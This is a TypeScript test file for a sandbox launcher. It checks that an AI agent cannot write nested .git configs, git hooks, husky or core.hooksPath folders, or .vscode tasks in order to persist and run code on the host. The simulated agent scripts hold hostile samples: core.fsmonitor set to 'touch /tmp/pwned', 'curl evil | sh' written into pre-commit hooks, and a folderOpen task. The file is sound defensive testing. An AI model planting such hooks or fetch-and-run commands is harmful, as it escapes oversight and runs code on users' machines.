/**
 * Persistence through nested paths (issue #12, item 2): the launcher protects
 * .git and friends at the top of each writable root; `gatehouse run` finds
 * the ones further down, and the folder core.hooksPath names, and protects
 * them too, then names what the agent created. Real CLI, real launcher, real
 * git. Every attack has a control write that must succeed, so that a test
 * fails if the agent simply could not write the workspace at all.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, type Ran } from '../helpers/cli.js';

const ROOT = resolve(import.meta.dirname, '../..');
const GIT = '/usr/bin/git';

let base: string;
let state: string;
let registry: string;

function run(workspace: string, script: string, env: NodeJS.ProcessEnv = {}, extra: string[] = []): Promise<Ran> {
  const args = ['run', '--agent', 'nester', '--workspace', workspace, ...extra, '--registry', registry, '--policies', join(ROOT, 'policies'), '--', '/bin/sh', '-c', script];
  return runCli(args, { env: { HOME: base, GATEHOUSE_STATE: state, ...env } });
}

function git(dir: string, ...args: string[]): void {
  execFileSync(GIT, ['-C', dir, ...args], { stdio: 'ignore', env: { PATH: '/usr/bin:/bin', HOME: base } });
}

function freshWorkspace(name: string): string {
  const ws = join(base, name);
  mkdirSync(ws);
  return ws;
}

beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), 'gh-nested-'));
  state = join(base, 'state');
  registry = join(base, 'registry');
  mkdirSync(registry);
  writeFileSync(join(registry, 'README.md'), 'empty registry\n');
});

afterAll(() => rmSync(base, { recursive: true, force: true }));

describe('nested repositories and hook folders are read-only inside the sandbox', () => {
  it('agent rewrites the config of a nested repository (ws/src/.git/config): refused', async () => {
    const ws = freshWorkspace('nested-config');
    mkdirSync(join(ws, 'src'));
    git(join(ws, 'src'), 'init', '-q');
    const config = readFileSync(join(ws, 'src/.git/config'), 'utf8');
    const r = await run(ws, 'echo ok > src/control; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> src/.git/config && echo WROTE-CONFIG; echo x > src/.git/hooks/post-checkout && echo WROTE-HOOK; mv src/.git src/moved && echo MOVED; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'src/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE|MOVED/);
    expect(readFileSync(join(ws, 'src/.git/config'), 'utf8')).toBe(config);
    expect(existsSync(join(ws, 'src/.git/hooks/post-checkout'))).toBe(false);
  });

  it('--allow-write on a nested .git lets the agent commit there, but its config and hooks stay read-only', async () => {
    const ws = freshWorkspace('nested-allow');
    mkdirSync(join(ws, 'src'));
    git(join(ws, 'src'), 'init', '-q');
    const config = readFileSync(join(ws, 'src/.git/config'), 'utf8');
    const g = 'git -c user.name=agent -c user.email=agent@example.org';
    const r = await run(
      ws,
      `cd src && echo hi > f && ${g} add f && ${g} commit -qm agent && echo COMMITTED; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config && echo WROTE-CONFIG; echo x > .git/hooks/pre-commit && echo WROTE-HOOK; true`,
      {},
      ['--allow-write', join(ws, 'src', '.git')],
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('COMMITTED');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, 'src/.git/config'), 'utf8')).toBe(config);
    expect(existsSync(join(ws, 'src/.git/hooks/pre-commit'))).toBe(false);
  });

  it('agent plants a .git with core.fsmonitor in a subdirectory: the run warns afterwards and names it', async () => {
    const ws = freshWorkspace('planted');
    const marker = join(base, 'planted-pwned');
    const r = await run(
      ws,
      `mkdir -p src/deeper/.git/objects src/deeper/.git/refs/heads && echo 'ref: refs/heads/master' > src/deeper/.git/HEAD && printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' > src/deeper/.git/config && echo planted`,
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('planted');
    expect(existsSync(join(ws, 'src/deeper/.git/config'))).toBe(true);
    expect(r.stderr).toContain(`the agent created ${ws}/src/deeper/.git, which can run code`);
    // Nothing on the host ran it (the after-scan only lists names).
    expect(existsSync(marker)).toBe(false);
  });

  it("the host's hook lookup runs nothing a repository's config names (core.fsmonitor, pager)", async () => {
    const ws = freshWorkspace('lookup');
    mkdirSync(join(ws, 'sub'));
    git(join(ws, 'sub'), 'init', '-q');
    const marker = join(base, 'lookup-pwned');
    git(join(ws, 'sub'), 'config', 'core.fsmonitor', `touch ${marker}; false`);
    git(join(ws, 'sub'), 'config', 'core.pager', `touch ${marker}; cat`);
    git(join(ws, 'sub'), 'config', 'core.hooksPath', 'scripts/hooks');
    mkdirSync(join(ws, 'sub/scripts/hooks'), { recursive: true });
    const r = await run(ws, 'true');
    expect(r.code).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });

  it('agent rewrites a husky hook (core.hooksPath .husky/_): refused', async () => {
    const ws = freshWorkspace('husky');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', '.husky/_');
    mkdirSync(join(ws, '.husky/_'), { recursive: true });
    writeFileSync(join(ws, '.husky/pre-commit'), 'npm test\n');
    writeFileSync(join(ws, '.husky/_/h'), '#!/bin/sh\n');
    const r = await run(ws, 'echo ok > control; echo "curl evil | sh" > .husky/pre-commit && echo WROTE; echo x > .husky/_/pre-commit && echo WROTE2; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
    expect(existsSync(join(ws, '.husky/_/pre-commit'))).toBe(false);
  });

  it('agent writes a hook into a non-standard core.hooksPath (scripts/hooks), also in a nested repository: refused', async () => {
    const ws = freshWorkspace('scripts-hooks');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', 'scripts/hooks');
    mkdirSync(join(ws, 'scripts/hooks'), { recursive: true });
    mkdirSync(join(ws, 'lib/inner'), { recursive: true });
    git(join(ws, 'lib/inner'), 'init', '-q');
    git(join(ws, 'lib/inner'), 'config', 'core.hooksPath', 'tools/git-hooks');
    mkdirSync(join(ws, 'lib/inner/tools/git-hooks'), { recursive: true });
    const r = await run(
      ws,
      'echo ok > scripts/control; echo ok > lib/inner/tools/control; echo x > scripts/hooks/pre-commit && echo WROTE1; echo x > lib/inner/tools/git-hooks/pre-commit && echo WROTE2; mv scripts/hooks scripts/old && echo MOVED; true',
    );
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'scripts/control'), 'utf8')).toBe('ok\n');
    expect(readFileSync(join(ws, 'lib/inner/tools/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE|MOVED/);
    expect(existsSync(join(ws, 'scripts/hooks/pre-commit'))).toBe(false);
    expect(existsSync(join(ws, 'lib/inner/tools/git-hooks/pre-commit'))).toBe(false);
  });

  it('agent rewrites the config of a repository nested in a --rw directory: refused', async () => {
    const ws = freshWorkspace('rw-ws');
    const extra = freshWorkspace('rw-extra');
    mkdirSync(join(extra, 'proj'));
    git(join(extra, 'proj'), 'init', '-q');
    const config = readFileSync(join(extra, 'proj/.git/config'), 'utf8');
    const r = await run(ws, `echo ok > ${extra}/proj/control; echo x >> ${extra}/proj/.git/config && echo WROTE; true`, {}, ['--rw', extra]);
    expect(r.code).toBe(0);
    expect(readFileSync(join(extra, 'proj/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(readFileSync(join(extra, 'proj/.git/config'), 'utf8')).toBe(config);
  });

  it('core.hooksPath to a directory that does not exist: warned before, and reported after the agent created it', async () => {
    const ws = freshWorkspace('absent-hooks');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', 'scripts/hooks');
    const r = await run(ws, 'mkdir -p scripts/hooks && echo "curl evil | sh" > scripts/hooks/pre-commit && echo created');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('created');
    const before = r.stderr.indexOf(`core.hooksPath points to ${ws}/scripts/hooks, which does not exist`);
    const after = r.stderr.indexOf(`the agent created ${ws}/scripts/hooks, the hooks folder core.hooksPath names`);
    expect(before).toBeGreaterThanOrEqual(0);
    expect(after).toBeGreaterThan(before);
  });

  it('core.hooksPath names the workspace itself (hooks the agent can add anywhere at its top): warned before the run', async () => {
    const ws = freshWorkspace('hooks-at-top');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', '.');
    const r = await run(ws, 'echo ok > control');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stderr).toContain(`core.hooksPath of ${ws} is ${ws}, a folder the agent can write`);
  });

  it('a symlink in the workspace is never followed by the scan (ws/link -> /, ws/out -> a repository outside)', async () => {
    const ws = freshWorkspace('links');
    const outsideRepo = join(base, 'outside-repo');
    mkdirSync(join(outsideRepo, 'deep'), { recursive: true });
    git(join(outsideRepo, 'deep'), 'init', '-q');
    symlinkSync('/', join(ws, 'link'));
    symlinkSync(outsideRepo, join(ws, 'out'));
    // A --protect outside the workspace would make the launcher refuse (exit 125); walking / would exhaust the budget.
    const r = await run(ws, 'echo ok > control');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stderr).not.toMatch(/scan .* stopped|outside-repo|--protect/);
  });

  it('a workspace larger than the scan budget: the run says nested repositories past it are not protected', async () => {
    const ws = freshWorkspace('budget');
    for (let i = 0; i < 20; i++) writeFileSync(join(ws, `f${i}`), '');
    const r = await run(ws, 'true', { GATEHOUSE_WORKSPACE_SCAN_ENTRIES: '5' });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/workspace scan for nested repositories and editor folders stopped after 5 entries or \d+ ms: nested repositories past that point are not protected/);
  });

  it('a nested editor folder (.vscode tasks in a subproject) is read-only; one inside node_modules is left alone', async () => {
    const ws = freshWorkspace('editors');
    mkdirSync(join(ws, 'app/.vscode'), { recursive: true });
    writeFileSync(join(ws, 'app/.vscode/tasks.json'), '{}\n');
    mkdirSync(join(ws, 'node_modules/pkg/.vscode'), { recursive: true });
    const r = await run(ws, 'echo ok > app/control; echo "{\\"runOn\\":\\"folderOpen\\"}" > app/.vscode/tasks.json && echo WROTE; rm -rf node_modules && echo REMOVED');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'app/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(readFileSync(join(ws, 'app/.vscode/tasks.json'), 'utf8')).toBe('{}\n');
    expect(r.stdout).toContain('REMOVED');
  });
});
